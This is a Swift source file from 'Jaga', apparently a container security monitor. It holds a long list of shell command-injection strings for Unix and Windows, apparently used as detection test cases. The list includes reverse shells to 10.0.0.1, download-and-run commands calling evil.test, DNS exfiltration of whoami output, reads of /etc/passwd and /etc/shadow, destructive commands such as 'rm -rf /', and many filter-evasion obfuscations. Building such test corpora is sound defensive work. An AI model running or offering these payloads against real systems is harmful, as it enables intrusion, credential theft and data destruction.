// Jaga - container security monitor
// SPDX-License-Identifier: Apache-2.0

extension AuthoredCases {
    /// Commands for shells of Unix and Windows.
    static let commands = #"""
        ;id
        |id
        ||id
        &&id
        &id
        `id`
        $(id)
        ; cat /etc/passwd
        | cat /etc/passwd
        && cat /etc/passwd
        127.0.0.1; cat /etc/passwd
        127.0.0.1 && whoami
        127.0.0.1|whoami
        127.0.0.1%0awhoami
        8.8.8.8;ls -la
        x;ls${IFS}-la
        x;cat${IFS}/etc/passwd
        x;cat$IFS$9/etc/passwd
        x;{cat,/etc/passwd}
        x;cat</etc/passwd
        x;c'a't /etc/passwd
        x;c"a"t /etc/passwd
        x;c\at /etc/passwd
        x;/bin/c?t /etc/p?sswd
        x;/???/??t /???/p??s??
        /???/??t /???/p??s??
        x;/b*n/c*t /etc/pass*
        x;$(printf '\x63\x61\x74') /etc/passwd
        x;`echo Y2F0IC9ldGMvcGFzc3dk|base64 -d`
        x;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh
        x;echo 636174202f6574632f706173737764|xxd -r -p|bash
        x;bash -c '{echo,YmFzaCAtaQ==}|{base64,-d}|bash'
        bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
        bash -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
        sh -i 5<> /dev/tcp/1.2.3.4/9001 0<&5 1>&5 2>&5
        nc -e /bin/sh 10.0.0.1 4444
        rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f
        python3 -c 'import os;os.system("id")'
        python -c 'import socket,subprocess,os;s=socket.socket()'
        perl -e 'system("id")'
        ruby -rsocket -e 'exit if fork'
        php -r 'system("id");'
        node -e 'require("child_process").exec("id")'
        awk 'BEGIN {system("id")}'
        socat exec:'bash -li',pty tcp:10.0.0.1:4444
        ;wget http://evil.test/x.sh -O /tmp/x.sh;sh /tmp/x.sh
        ;curl http://evil.test/x|sh
        ;curl -s evil.test/x | bash
        $(curl evil.test/`whoami`)
        `wget -qO- evil.test`
        ;nslookup x.evil.test
        |nslookup $(whoami).evil.test
        ;ping -c 5 127.0.0.1
        & ping -n 5 127.0.0.1 &
        |ping -c 10 127.0.0.1|
        ;sleep 10
        $(sleep 10)
        `sleep 10`
        |sleep 5
        & timeout /t 10
        ;uname -a
        ;ifconfig
        ;ps aux
        ;env
        ;printenv
        ;w
        ;who
        ;set
        ;echo test123
        ;echo $((1+1))
        ;expr 1 + 1
        |dir
        |dir c:\
        &dir
        & type c:\windows\win.ini
        |type %SystemRoot%\win.ini
        & net user
        && net user x y /add
        | ipconfig /all
        & whoami /all
        | systeminfo
        cmd /c dir
        cmd.exe /c whoami
        powershell -c whoami
        powershell -enc SQBFAFgA
        powershell -nop -w hidden -e SQBFAFgA
        powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.test/x.ps1')
        IEX (iwr http://evil.test/x.ps1)
        Invoke-Expression (New-Object Net.WebClient).DownloadString('http://a.test')
        Get-Content C:\Windows\win.ini
        certutil -urlcache -f http://evil.test/x.exe x.exe
        mshta http://evil.test/x.hta
        rundll32 javascript:"\..\mshtml,RunHTMLApplication"
        regsvr32 /s /n /u /i:http://evil.test/x.sct scrobj.dll
        wmic process call create calc
        c^m^d /c w^h^o^a^m^i
        w"h"o"a"m"i
        who$@ami
        wh$()oami
        w\ho\am\i
        $u/bin$u/cat$u /etc$u/passwd
        a=c;b=at;$a$b /etc/passwd
        x=whoami;$x
        IFS=,;`cat<<<uname,-a`
        cat${HOME:0:1}etc${HOME:0:1}passwd
        ${PATH:0:1}bin${PATH:0:1}id
        echo${IFS}aWQ=|base64${IFS}-d|sh
        $(rev<<<'imaohw')
        $(tr '[A-Z]' '[a-z]'<<<'WhOaMi')
        $0<<<id
        $(a="WhOaMi";printf %s "${a,,}")
        ;id;
        |id;
        ;id|
        ;id #
        ';id;'
        ";id;"
        ' || id || '
        " && id && "
        '`id`'
        "$(id)"
        x'$(id)'
        x"`id`"
        x)|id
        x;(id)
        x;{ id; }
        x\nid
        %0aid
        %0a cat /etc/passwd
        x%0d%0aid
        x||(ping -c 1 a.test)
        x;eval id
        x;exec id
        x;source /dev/stdin
        x;. /tmp/x
        x;sudo id
        x;nohup id &
        x;time id
        x;env id
        x;command id
        x;busybox id
        x;find / -name x -exec id \;
        x;find . -delete
        x;grep -r password /var/www
        x;tail -n 20 /var/log/auth.log
        x;head /etc/shadow
        x;tac /etc/passwd
        x;nl /etc/passwd
        x;od -c /etc/passwd
        x;rev /etc/passwd
        x;sort /etc/passwd
        x;less /etc/passwd
        x;chmod 777 /tmp/x
        x;rm -rf /
        x;rm -rf *
        x;kill -9 1
        x;reboot
        x;mkdir /tmp/a
        x;touch /tmp/pwned
        x;cp /etc/passwd /tmp
        x;mv a b
        x;tar cf - /etc
        x;crontab -l
        x;ssh x@y
        x;history
        x;cd /tmp;ls
        x;cd ..;pwd
        x;echo x > /tmp/y
        x>/tmp/y
        x;mail x@y.test </etc/passwd
        x;docker ps
        x;kubectl get pods
        x;git clone http://evil.test
        x;pip install x
        x;apt-get install nc
        x;lua -e 'os.execute("id")'
        x;gcc x.c
        x;openssl s_client -connect a:443
        x;telnet 10.0.0.1 4444
        x;ncat 10.0.0.1 4444 -e /bin/bash
        x;mkfifo p
        x;xterm -display 10.0.0.1:1
        x;base64 /etc/passwd
        x;xxd /etc/passwd
        x;strings /etc/passwd
        x;dd if=/etc/passwd
        x;cat /proc/self/environ
        x;cat ../../../../etc/passwd
        x;cat *.php
        x;ls -R
        x;ls /
        x;ls
        x;dir
        x|ls
        x&ls&
        x&&ls
        x||ls
        x`ls`
        x$(ls)
        x;\ls
        x;l''s
        x;l""s
        x;l$@s
        x;l?
        x;echo<TAB>id
        x|mail root
        x;phpinfo
        x; /usr/bin/id
        x | /usr/bin/id
        x;/usr/bin/curl a.test
        x;/bin/sh
        x;bash
        x;sh -c id
        /bin/sh -c id
        /bin/bash -c "id"
        /usr/bin/id
        () { :;}; /bin/bash -c "id"
        () { :; }; echo vulnerable
        () { _; } >_[$($())] { id; }
        -oProxyCommand=id
        --output=/tmp/x
        {{7*7}};id
        @echo off & dir
        %COMSPEC% /c dir
        %PROGRAMFILES:~10,-5%a
        for /f %i in ('whoami') do echo %i
        forfiles /c "cmd /c whoami"
        start calc.exe
        copy c:\a c:\b
        del /q c:\x
        reg query HKLM
        schtasks /query
        net localgroup administrators
        bitsadmin /transfer x http://evil.test/x.exe c:\x.exe
        a;uname
        a|uname -a|
        1;echo hacked
        foo`uname -a`
        foo$(uname)
        $(cat /etc/hosts)
        `cat /etc/hosts`
        ||whoami||
        &&whoami&&
        || ping -c 3 x.test ||
        ;ping${IFS}-c${IFS}3${IFS}x.test
        ;curl${IFS}x.test|sh
        ;wget -q -O- http://x.test/a|sh
        ;fetch http://x.test/a
        ;python -c "print(1)"
        ;perl -e 'print 1'
        ;php -r 'phpinfo();'
        ;ruby -e 'puts 1'
        ;node -e 'console.log(1)'
        ;nc -lvp 4444
        ;nc x.test 4444 -e /bin/sh
        ;cat /e*c/p*d
        ;cat /e??/p????d
        ;/???/n? -e /???/b??h 2130706433 1337
        ;ca\t /et\c/pas\swd
        ;ca''t /etc/pa''sswd
        ;who''ami
        ;w'h'o'a'm'i
        ;$(echo whoami)
        ;`echo whoami`
        ;echo d2hvYW1p|base64 --decode|bash
        ;bash<<<$(base64 -d<<<d2hvYW1p)
        ;xxd -r -p<<<77686f616d69|sh
        ;printf 'whoami'|sh
        ;eval $(echo whoami)
        ;X=$'cat\x20/etc/passwd'&&$X
        ;sh</dev/tcp/1.2.3.4/80
        ;exec 5<>/dev/tcp/1.2.3.4/80
        ;ls /home | head
        ;cd /;ls
        ;id>/var/www/html/x
        ;crontab -e
        ;systemctl stop nginx
        ;service ssh start
        ;iptables -F
        ;useradd x
        ;passwd root
        ;chown x y
        ;ln -s / /tmp/x
        ;netstat -an
        ;ss -tlnp
        ;ip addr
        ;lsof -i
        ;top -bn1
        ;df -h
        ;free -m
        ;uptime
        ;last
        ;date
        ;pwd
        ;true
        ;test 1
        ;hostname
        ;dmesg
        ;mount
        ;tee /tmp/x
        | type C:\boot.ini
        & dir C:\ &
        & ver
        && systeminfo &&
        | tasklist
        | net start
        | netstat -ano
        & powershell -Command "Get-Process"
        & certutil -decode a b
        & echo x > C:\x.txt
        ; Get-ChildItem Env:
        powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc SQBFAFgA
        $(powershell whoami)
        cmd.exe /c "dir"
        pow^ersh^ell -c whoami
        a=cat;b=/etc/passwd;$a $b
        () { ignored; }; /usr/bin/id
        ";cat /etc/passwd;"
        ';cat /etc/passwd;'
        x\";cat /etc/passwd;\"
        x' && sleep 5 && '
        x" || sleep 5 || "
        1 & sleep 5 &
        1 | sleep 5
        $(sleep${IFS}5)
        {sleep,5}
        ;{ls,-la}
        """#
}
